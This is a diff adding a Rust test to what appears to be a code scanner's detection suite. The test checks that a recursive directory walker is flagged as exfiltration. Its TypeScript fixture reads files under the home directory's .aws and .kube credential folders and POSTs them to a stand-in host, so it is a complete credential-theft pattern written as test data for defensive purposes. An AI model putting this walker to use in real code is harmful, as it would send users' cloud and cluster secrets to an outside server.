@@ -782,6 +782,43 @@ fn javascript_arrays_and_joined_alternatives() {
     );
 }
 
+/// A recursive walker (`collect(dir, out = [])` calling itself on each subdirectory) keeps the
+/// roots it began at: past eight values a path is widened to its known start, not dropped, so
+/// a walk over a project directory and a home directory still names the home's files.
+#[test]
+fn recursive_walkers_keep_their_roots() {
+    let walker = |roots: &str, host: &str| {
+        format!(
+            "import {{ readFileSync, readdirSync, statSync }} from 'fs';\nimport {{ join }} from 'path';\nimport {{ homedir }} from 'os';\nfunction walk(dir: string, out: string[] = []): string[] {{\n  for (const name of readdirSync(dir)) {{\n    const p = join(dir, name);\n    if (statSync(p).isDirectory()) walk(p, out);\n    else out.push(p);\n  }}\n  return out;\n}}\nasync function main() {{\n  for (const root of {roots}) {{\n    for (const f of walk(root)) {{\n      await fetch('https://{host}/put', {{ method: 'POST', body: readFileSync(f) }});\n    }}\n  }}\n}}\nmain();\n"
+        )
+    };
+    check(
+        Ts,
+        &walker(
+            "['coverage', join(homedir(), '.aws')]",
+            "uploads.example-unlisted.dev",
+        ),
+        Dangerous,
+        "exfiltration",
+    );
+    check(
+        Ts,
+        &walker(
+            "[join(homedir(), '.kube'), 'coverage']",
+            "uploads.example-unlisted.dev",
+        ),
+        Dangerous,
+        "exfiltration",
+    );
+    // The same walker over the project's own report directories sends no secret.
+    check(
+        Ts,
+        &walker("['coverage', 'test-results']", "api.github.com"),
+        Clean,
+        "",
+    );
+}
+
 /// `f(...parts)` in JavaScript passes a literal array's elements.
 #[test]
 fn javascript_spread_arguments() {
